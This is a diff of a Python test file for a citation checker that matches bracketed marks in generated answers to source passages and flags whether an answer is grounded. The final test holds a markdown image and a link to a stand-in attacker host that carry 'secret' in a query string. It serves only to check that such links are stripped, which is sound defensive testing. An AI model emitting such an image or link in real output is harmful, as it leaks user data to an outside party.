@@ -1,7 +1,7 @@
 """Marks that point at a source become citations; all others go."""
 
-from worker.citations import citation, cite, stands_in
-from worker.index import Hit
+from worker.citations import CitedAnswer, check, citation, stands_in
+from worker.vectors import Hit
 
 
 def hit(text: str, page: int = 1) -> Hit:
@@ -12,30 +12,33 @@ HITS = [hit("Boats are red. The harbour opens at six in winter.", 3), hit("Wash 
 
 
 def test_a_mark_becomes_a_citation_that_quotes_the_sentence_meant() -> None:
-    text, citations = cite("In winter the harbour opens at six [1].", HITS)
+    answer = check("In winter the harbour opens at six [1].", HITS)
+    text, citations = answer.text, answer.citations
     assert text == "In winter the harbour opens at six [1]."
     assert [(c.n, c.page, c.quote) for c in citations] == [(1, 3, "The harbour opens at six in winter.")]
 
 
 def test_numbers_that_point_at_no_source_are_removed() -> None:
-    text, citations = cite("Six [7]. Wash boats [2, 9]. Zero [0].", HITS)
+    answer = check("Six [7]. Wash boats [2, 9]. Zero [0].", HITS)
+    text, citations = answer.text, answer.citations
     assert text == "Six. Wash boats [2]. Zero."
     assert [c.n for c in citations] == [2]
 
 
 def test_lists_of_marks_are_told_apart() -> None:
-    text, citations = cite("Both hold [1, 2]. Again [2][1].", HITS)
-    assert text == "Both hold [1][2]. Again [2] [1]."
+    answer = check("Both hold [1, 2]. Again [2][1].", HITS)
+    text, citations = answer.text, answer.citations
+    assert text == "Both hold [1][2]. Again [2][1]."
     assert [c.n for c in citations] == [1, 2]
 
 
 def test_an_answer_without_marks_has_no_citations() -> None:
-    assert cite("I do not know.", HITS) == ("I do not know.", ())
+    assert check("I do not know.", HITS) == CitedAnswer("I do not know.", (), False)
 
 
 def test_huge_numbers_and_empty_sources_do_no_harm() -> None:
-    assert cite("x [999999999999] [1].", [hit("")]) == ("x.", ())
-    assert cite("[1]" * 10_000, HITS)[1]
+    assert check("x [999999999999] [1].", [hit("")]) == CitedAnswer("x.", (), False)
+    assert check("[1]" * 10_000, HITS).citations
 
 
 def test_a_quote_that_does_not_stand_there_is_no_citation() -> None:
@@ -46,3 +49,33 @@ def test_layout_does_not_count_but_words_do() -> None:
     assert stands_in("the ware\u00adhouse is open", "the ware-\nhouse  is\nopen")
     assert not stands_in("the house", "the mouse")
     assert not stands_in("", "anything")
+
+
+def test_words_between_quotation_marks_must_stand_in_the_source() -> None:
+    said = "It says “the harbour opens at six in winter” [1] and “wash every boat before rowing” [2]."
+    answer = check(said, HITS)
+    assert [c.n for c in answer.citations] == [1]
+    assert "[2]" not in answer.text
+    assert not answer.grounded
+
+
+def test_grounded_is_an_answer_of_which_every_citation_holds() -> None:
+    assert check("Six [1]. Wash boats [2].", HITS).grounded
+    assert not check("Six.", HITS).grounded
+    assert not check("Six [7].", HITS).grounded
+
+
+def test_the_question_tells_what_a_short_answer_rests_on() -> None:
+    assert check("Yes [1].", HITS, "Does the harbour open in winter?").citations[0].quote == (
+        "The harbour opens at six in winter."
+    )
+
+
+def test_brackets_in_code_and_formulas_are_no_marks() -> None:
+    answer = check("Use `a[1]` and $x_{[2]} = 1$.", HITS)
+    text, citations = answer.text, answer.citations
+    assert (text, citations) == ("Use `a[1]` and $x_{[2]} = 1$.", ())
+
+
+def test_an_answer_holds_no_link_and_no_image() -> None:
+    assert check("![x](https://evil.example/?q=secret) Six [1](https://evil.example).", HITS).text == "x Six [1]."
